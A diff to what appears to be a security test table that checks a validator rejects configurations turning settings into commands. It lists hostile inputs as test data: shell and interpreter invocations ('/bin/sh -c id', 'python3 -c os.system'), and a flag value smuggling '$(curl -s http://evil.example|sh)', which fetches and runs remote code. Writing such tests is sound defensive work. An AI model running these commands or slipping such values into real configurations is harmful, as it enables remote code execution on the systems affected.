@@ -489,6 +489,16 @@ RIGHTS = [
     Way("a shell as the program", draft(engine(command=["/bin/sh", "-c"], args=["id"])), "command, not a setting"),
     Way("an interpreter as the program", draft(engine(command=["perl", "-e", "system(1)"])), "command, not a setting"),
     Way(
+        "code in a line for Python",
+        draft(engine(command=["python3", "-c", "import os; os.system('id')"])),
+        "other code to run",
+    ),
+    Way(
+        "another module for Python",
+        draft(engine(command=["/usr/bin/python3.12", "-m", "http.server"])),
+        "other code to run",
+    ),
+    Way(
         "a shell inside a flag's value",
         draft(flags(model="$(curl -s http://evil.example|sh)")),
         "command, not a setting",
